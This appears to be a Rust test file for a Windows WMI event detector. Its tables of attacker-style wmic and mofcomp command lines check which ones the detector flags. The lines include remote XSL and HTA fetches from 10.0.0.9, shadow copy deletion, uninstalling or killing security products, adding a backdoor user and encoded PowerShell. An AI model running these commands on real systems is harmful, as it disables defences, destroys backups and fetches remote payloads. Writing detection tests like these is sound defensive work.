//! Spellings of one command that must be judged alike, and commands that only look like them.
#![allow(clippy::unwrap_used, reason = "tests fail so")]

use wmi_events::detect::Severity;
use wmi_events::{Event, EventId, Record, System};

const WMIC: &str = r"C:\Windows\System32\wbem\WMIC.exe";
const CMD: &str = r"C:\Windows\System32\cmd.exe";
const MOFCOMP: &str = r"C:\Windows\System32\wbem\mofcomp.exe";
const MSIEXEC: &str = r"C:\Windows\System32\msiexec.exe";

fn event(id: EventId, fields: &[(&'static str, &str)]) -> Event<'static> {
    let mut system = System::new(id);
    system.computer = Some("WKS07.corp.example".into());
    let mut record = Record::new(system);
    for (name, value) in fields {
        record.set(*name, (*value).to_owned());
    }
    record.into_event().unwrap().unwrap()
}

fn names(event: &Event<'_>) -> Vec<(&'static str, Severity)> {
    let findings = event.findings();
    findings.map(|f| (f.name(), f.severity)).collect()
}

fn process(image: &str, parent: &str, line: &str) -> Vec<(&'static str, Severity)> {
    let fields = [
        ("NewProcessName", image),
        ("ParentProcessName", parent),
        ("CommandLine", line),
    ];
    names(&event(EventId::PROCESS_CREATION, &fields))
}

/// Each line has this finding; `""`: none of medium severity and above.
fn assert_all(image: &str, parent: &str, table: &[(&str, &str)]) {
    for (line, expected) in table {
        let found = process(image, parent, line);
        let is_right = match *expected {
            "" => found
                .iter()
                .all(|(_, severity)| *severity < Severity::Medium),
            name => found.iter().any(|(found, _)| *found == name),
        };
        assert!(is_right, "{line}: {found:?}, not {expected:?}");
    }
}

#[test]
fn switches_of_wmic_behind_a_word() {
    let table = [
        (r#"wmic os get/format:"http://10.0.0.9/x.xsl""#, "wmic_xsl"),
        ("wmic os get Name/format:http://10.0.0.9/x.xsl", "wmic_xsl"),
        (
            r"wmic process list brief/format:\\10.0.0.9\s\x.xsl",
            "wmic_xsl",
        ),
        ("wmic shadowcopy delete/nointeractive", "shadow_copy_delete"),
        (
            r#"wmic product where "name like '%Sophos%'" call uninstall/nointeractive"#,
            "wmic_security_product_uninstall",
        ),
        (
            r#"wmic process where name="MsMpEng.exe" call terminate/nointeractive"#,
            "wmic_security_process_terminate",
        ),
        (
            r#"wmic /namespace:\\root\subscription path __EventFilter where name="x" delete/nointeractive"#,
            "wmic_subscription_delete",
        ),
        (
            "wmic /failfast:on/node:SRV09 process call create calc",
            "remote_wmic_process_create",
        ),
        (
            r"wmic /namespace:\\root\cimv2/node:SRV09 process call create calc",
            "remote_wmic_process_create",
        ),
        ("wmic cpu get loadpercentage/value", ""),
        ("wmic qfe list brief/format:table", ""),
    ];
    assert_all(WMIC, CMD, &table);
}

#[test]
fn commands_of_wmic() {
    let table = [
        (
            r#"wmic process call create "\"powershell\" -enc AAAA""#,
            "wmic_suspicious_process_create",
        ),
        (
            r#"wmic process call create "\"C:\Windows\System32\mshta.exe\" http://10.0.0.9/a.hta""#,
            "wmic_suspicious_process_create",
        ),
        (
            r#"wmic process call create '"powershell.exe" -enc AAAA' "#,
            "wmic_suspicious_process_create",
        ),
        (
            r#"wmic process call create "'powershell.exe' -enc AAAA""#,
            "wmic_suspicious_process_create",
        ),
        (
            r#"wmic process call create CommandLine="\"rundll32\" C:\ProgramData\a.dll,x""#,
            "wmic_suspicious_process_create",
        ),
        (
            r#"wmic process call create "\"vssadmin.exe\" delete shadows /all""#,
            "wmi_sensitive_command",
        ),
        (
            r#"wmic process call create "\"C:\Program Files\App\app.exe\" /x""#,
            "",
        ),
        (
            r#"wmic process call create CommandLine = "mshta http://10.0.0.9/a.hta""#,
            "wmic_suspicious_process_create",
        ),
        (
            r#"wmic process call create CommandLine ="mshta x""#,
            "wmic_suspicious_process_create",
        ),
        (
            r#"wmic process call create CommandLine= "mshta x""#,
            "wmic_suspicious_process_create",
        ),
    ];
    assert_all(WMIC, CMD, &table);
}

/// With `/?`, wmic.exe shows its help and does nothing.
#[test]
fn help_of_wmic() {
    let table = [
        ("wmic shadowcopy delete /?", ""),
        ("wmic nteventlog call cleareventlog /?", ""),
        (
            r#"wmic product where "name like '%Sophos%'" call uninstall /?"#,
            "",
        ),
        (
            r"wmic /namespace:\\root\subscription path __EventFilter create /?",
            "",
        ),
        ("wmic service call create /?", ""),
        ("wmic process call create/?", ""),
        ("wmic shadowcopy delete", "shadow_copy_delete"),
    ];
    assert_all(WMIC, CMD, &table);
}

#[test]
fn names_of_security_products() {
    let table = [
        (
            r#"wmic product where name="ESET" call uninstall"#,
            "wmic_security_product_uninstall",
        ),
        (
            r#"wmic product where "vendor='ESET, spol. s r.o.'" call uninstall"#,
            "wmic_security_product_uninstall",
        ),
        (
            "wmic service Sense call stopservice",
            "wmic_critical_service_stop",
        ),
        (
            r#"wmic service where "name like '%Sense%'" call stopservice"#,
            "wmic_critical_service_stop",
        ),
    ];
    assert_all(WMIC, CMD, &table);
    for line in [
        r#"wmic product where "name='Password Reset Client'" call uninstall /nointeractive"#,
        r#"wmic process where name="dsmc.exe" call terminate"#,
        r#"wmic process where "ExecutablePath='C:\\Users\\jnorton\\app.exe'" call terminate"#,
    ] {
        let found = process(WMIC, CMD, line);
        assert!(
            !found.iter().any(|(name, _)| name.contains("security")),
            "{line}: {found:?}"
        );
    }
}

/// Another program's arguments are as grave as those of wmic.exe.
#[test]
fn renamed_wmic() {
    let table = [
        (
            r#"a.exe process call create "net user hax P@ss1 /add""#,
            "wmic_renamed_attack",
        ),
        (
            r#"a.exe process call create "vssadmin delete shadows /all""#,
            "wmic_renamed_attack",
        ),
        (
            r#"a.exe process where name="MsMpEng.exe" call terminate"#,
            "wmic_renamed_attack",
        ),
        ("a.exe process call create calc", "wmic_renamed"),
    ];
    assert_all(r"C:\Users\Public\a.exe", CMD, &table);
}

#[test]
fn namespaces_of_mofcomp() {
    let mof = r#""C:\Program Files\A\a.mof""#;
    for (namespace, is_remote) in [
        (r"\\localhost\root\cimv2", false),
        (r"\\127.0.0.1\root\cimv2", false),
        (r"\\WKS07\root\cimv2", false),
        (r"\\wks07.corp.example\root\cimv2", false),
        (r"\\.\root\cimv2", false),
        (r"root\cimv2", false),
        (r"\\SRV09\root\cimv2", true),
        ("//SRV09/root/subscription", true),
    ] {
        let line = format!("mofcomp.exe -N:{namespace} {mof}");
        let found = process(MOFCOMP, MSIEXEC, &line);
        assert_eq!(!found.is_empty(), is_remote, "{line}: {found:?}");
    }
}
